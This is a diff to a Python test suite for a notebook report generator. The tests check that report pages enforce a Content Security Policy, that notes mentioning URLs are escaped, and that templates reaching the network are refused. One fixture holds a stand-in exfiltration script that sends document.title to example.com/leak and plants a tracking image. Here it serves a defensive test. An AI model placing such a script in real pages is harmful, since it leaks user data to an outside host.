@@ -14,12 +14,21 @@ from pathlib import Path
 
 import papermill
 import pytest
-from report_support import ESCAPED_NOTE, NOTE, card_value, stand_in_notebook
+from report_support import (
+    ESCAPED_NOTE,
+    ESCAPED_URL_NOTE,
+    NOTE,
+    URL_NOTE,
+    card_value,
+    html_notebook,
+    stand_in_notebook,
+    visit_in_chromium,
+)
 
 from backlib import report
 from backlib.cli import main
 from backlib.errors import ReportError
-from backlib.report import batch, html_parts, pipeline
+from backlib.report import batch, html_parts, offline, pipeline
 
 HAS_CHROMIUM = pipeline.CHROMIUM_PATH.is_file()
 
@@ -29,10 +38,11 @@ HAS_CHROMIUM = pipeline.CHROMIUM_PATH.is_file()
 
 @pytest.fixture(scope="module")
 def clinic_run(demo_store, tmp_path_factory) -> tuple[int, Path]:
-    """`backlib report --all` over the demo store: HTML and PDF, two workers, a script note."""
+    """`backlib report --all` over the demo store: HTML and PDF, two workers, a note that is a
+    script tag and mentions URLs."""
     out = tmp_path_factory.mktemp("reports")
     args = ["report", "--all", "--store", demo_store, "--out", str(out), "--jobs", "2"]
-    args += ["--note", NOTE]
+    args += ["--note", f"{NOTE} {URL_NOTE}"]
     if HAS_CHROMIUM:
         args.append("--pdf")
     return main(args), out
@@ -113,6 +123,73 @@ def test_report_loads_nothing_from_the_network(demo_html):
     assert pipeline.external_references(demo_html) == []
     assert "require.min.js" not in demo_html
     assert "mathjax/" not in demo_html.lower()
+
+
+def test_every_report_page_and_the_index_carry_the_content_security_policy(clinic_run):
+    policy = (
+        f'<meta http-equiv="Content-Security-Policy" content="{offline.CONTENT_SECURITY_POLICY}">'
+    )
+    pages = sorted(clinic_run[1].glob("*.html"))
+    assert [page.name for page in pages] == [
+        "demo-1.html",
+        "demo-2.html",
+        "demo-3.html",
+        "index.html",
+    ]
+    for page in pages:
+        text = page.read_text(encoding="utf-8")
+        head = text[: text.index("</head>")]
+        assert policy in head, page.name
+        assert head.index(policy) < head.index("<style"), f"{page.name}: the policy comes first"
+
+
+def test_notes_that_only_mention_urls_render_as_text(clinic_run):
+    code, out = clinic_run
+    assert code == 0
+    demo_2 = (out / "demo-2.html").read_text(encoding="utf-8")
+    assert demo_2.count(ESCAPED_URL_NOTE) == 2  # the session note and the clinician's note
+    assert "report failed" not in (out / "index.html").read_text(encoding="utf-8")
+
+
+@pytest.mark.skipif(not HAS_CHROMIUM, reason="Chromium is not installed")
+def test_charts_and_handout_still_draw_under_the_content_security_policy(clinic_run):
+    with visit_in_chromium(clinic_run[1] / "demo-1.html") as visit:
+        visit.page.wait_for_selector(".js-plotly-plot .main-svg", timeout=30_000)
+        charts = visit.page.locator(".plotly-graph-div").count()
+        drawn = visit.page.locator(".plotly-graph-div:has(.main-svg)").count()
+        handout = visit.page.frame_locator("iframe.bl-handout").locator("body")
+        handout_text = handout.inner_text(timeout=10_000)
+        frame_height = visit.page.eval_on_selector("iframe.bl-handout", "f => f.offsetHeight")
+    assert charts >= 1 and drawn == charts
+    assert "Session" in handout_text or len(handout_text) > 100
+    assert frame_height > 100
+    assert visit.outside_requests == [] and visit.refused == []
+
+
+@pytest.mark.skipif(not HAS_CHROMIUM, reason="Chromium is not installed")
+def test_a_template_whose_page_reaches_out_gets_no_pdf_and_no_html(demo_store, tmp_path):
+    # Loads made by a script pass the export's check (it reads tags, not code): the policy stops
+    # them in the browser, and the PDF step refuses the page.
+    reaching_out = (
+        '<p>looks harmless</p><script>fetch("https://example.com/leak?d=" + document.title)'
+        '.catch(() => {}); const image = document.createElement("img");'
+        'image.src = "https://example.com/p.gif"; document.body.append(image);</script>'
+    )
+    out = tmp_path / "out"
+    template = html_notebook(tmp_path, reaching_out)
+    with pytest.raises(ReportError, match=r"^demo-2: .*tried to load https://example\.com/"):
+        report.render("demo-2", demo_store, out_dir=out, pdf=True, notebook=template)
+    assert sorted(path.name for path in out.iterdir()) == []
+
+
+def test_a_template_whose_tags_load_from_the_network_is_refused_before_writing(
+    demo_store, tmp_path
+):
+    template = html_notebook(tmp_path, '<img src="https://example.com/p.gif">')
+    out = tmp_path / "out"
+    with pytest.raises(ReportError, match="network"):
+        report.render("demo-2", demo_store, out_dir=out, notebook=template)
+    assert list(out.iterdir()) == []
 
 
 def test_report_embeds_plotly_js_once(demo_html):
